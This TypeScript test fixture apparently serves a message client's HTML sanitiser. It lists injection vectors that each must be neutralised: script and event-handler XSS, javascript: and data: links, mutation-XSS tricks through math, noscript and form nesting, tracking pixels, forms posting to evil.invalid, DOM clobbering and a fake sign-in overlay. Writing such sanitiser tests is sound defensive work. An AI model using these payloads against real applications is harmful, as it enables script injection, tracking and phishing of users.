/**
 * Letters that try to run, load, post, navigate or hide. Each is shown in the message frame of the packaged program;
 * afterwards `window.__hit` must be unset in every frame, no request may have left, the location stands, and no element
 * named in `mustNotHold` is in the frame.
 */
export interface HtmlVector {
  name: string
  html: string
  /** Selectors that must match nothing inside the frame. */
  mustNotHold: string[]
}

const hit = 'top.__hit=1;window.__hit=1'
const pixel = 'https://tracker.invalid/p.gif'

export const htmlVectors: readonly HtmlVector[] = [
  { name: 'script', html: `<script>${hit}</script>hello`, mustNotHold: ['script'] },
  { name: 'image error handler', html: `<img src=x onerror="${hit}">`, mustNotHold: ['[onerror]'] },
  { name: 'svg onload', html: `<svg onload="${hit}"><script>${hit}</script></svg>`, mustNotHold: ['svg', 'script'] },
  {
    name: 'svg animate href',
    html: `<svg><a><animate attributeName=href values="javascript:${hit}"/><text>x</text></a></svg>`,
    mustNotHold: ['svg', 'animate'],
  },
  { name: 'javascript link', html: `<a href="javascript:${hit}">x</a>`, mustNotHold: ['a[href^="javascript"]'] },
  { name: 'javascript link with control characters', html: `<a href="java&#9;script:${hit}">x</a>`, mustNotHold: ['a[href]'] },
  { name: 'data link', html: `<a href="data:text/html,<script>${hit}</script>">x</a>`, mustNotHold: ['a[href]'] },
  { name: 'own origin link', html: '<a href="app://dragoman/index.html">x</a>', mustNotHold: ['a[href]'] },
  {
    name: 'mutation through math',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
    mustNotHold: ['math', 'style', '[onerror]'],
  },
  {
    name: 'mutation through noscript',
    html: `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
    mustNotHold: ['noscript', '[onerror]'],
  },
  {
    name: 'mutation through form nesting',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
    mustNotHold: ['form', 'math', '[onerror]'],
  },
  { name: 'iframe with srcdoc', html: `<iframe srcdoc="<script>${hit}</script>"></iframe>`, mustNotHold: ['iframe'] },
  { name: 'iframe with javascript', html: `<iframe src="javascript:${hit}"></iframe>`, mustNotHold: ['iframe'] },
  {
    name: 'object and embed',
    html: `<object data="data:text/html,<script>${hit}</script>"></object><embed src="${pixel}">`,
    mustNotHold: ['object', 'embed'],
  },
  { name: 'base', html: '<base href="https://evil.invalid/"><a href="x">x</a>', mustNotHold: ['base', 'a[href]'] },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">', mustNotHold: ['meta[http-equiv]'] },
  {
    name: 'form that posts',
    html: '<form action="https://evil.invalid/"><input name=pin><button>OK</button></form>',
    mustNotHold: ['form', 'input', 'button'],
  },
  { name: 'form attribute outside a form', html: '<button form=f formaction="https://evil.invalid/">x</button>', mustNotHold: ['button'] },
  { name: 'remote picture', html: `<img src="${pixel}">`, mustNotHold: ['img[src^="http"]'] },
  { name: 'remote picture without scheme', html: '<img src="//tracker.invalid/p.gif">', mustNotHold: ['img[src]'] },
  {
    name: 'remote picture by srcset',
    html: `<img srcset="${pixel} 1x"><picture><source srcset="${pixel}"><img></picture>`,
    mustNotHold: ['[srcset]', 'source'],
  },
  {
    name: 'remote background attribute',
    html: `<table background="${pixel}"><tr><td background="${pixel}">x</td></tr></table>`,
    mustNotHold: ['[background]'],
  },
  { name: 'remote background style', html: `<p style="background:url(${pixel})">x</p>`, mustNotHold: ['[style*="url"]'] },
  { name: 'remote style in pieces', html: '<p style="background:u\\72l(https://tracker.invalid/p.gif)">x</p>', mustNotHold: ['[style]'] },
  {
    name: 'style variables that carry a url',
    html: `<div style="--a:url(${pixel})"><p style="background:var(--a)">x</p></div>`,
    mustNotHold: ['[style*="--"]', '[style*="var"]'],
  },
  { name: 'style sheet', html: `<style>@import "${pixel}"; body{background:url(${pixel})}</style>`, mustNotHold: ['body style'] },
  {
    name: 'linked style sheet',
    html: `<link rel=stylesheet href="${pixel}"><link rel=dns-prefetch href="//tracker.invalid">`,
    mustNotHold: ['link'],
  },
  {
    name: 'sound and film',
    html: `<audio src="${pixel}" autoplay></audio><video poster="${pixel}"></video>`,
    mustNotHold: ['audio', 'video'],
  },
  {
    name: 'box over the window',
    html: '<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>',
    mustNotHold: ['[style*="position"]'],
  },
  {
    name: 'clobbering',
    html: '<img name=body><a id=head name=documentElement>x</a><form id=getElementById></form>',
    mustNotHold: ['[id]', '[name]'],
  },
  {
    name: 'data picture that is svg',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${hit}'/>">`,
    mustNotHold: ['img[src]'],
  },
  {
    name: 'autofocus and popover',
    html: `<input autofocus onfocus="${hit}"><div popover onbeforetoggle="${hit}">x</div>`,
    mustNotHold: ['input', '[popover]', '[onbeforetoggle]'],
  },
  {
    name: 'template and slot',
    html: `<template shadowrootmode=open><script>${hit}</script></template>`,
    mustNotHold: ['template', 'script'],
  },
  {
    name: 'xml processing instruction',
    html: `<?xml-stylesheet href="javascript:${hit}"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${hit}</x:script>`,
    mustNotHold: ['script'],
  },
]
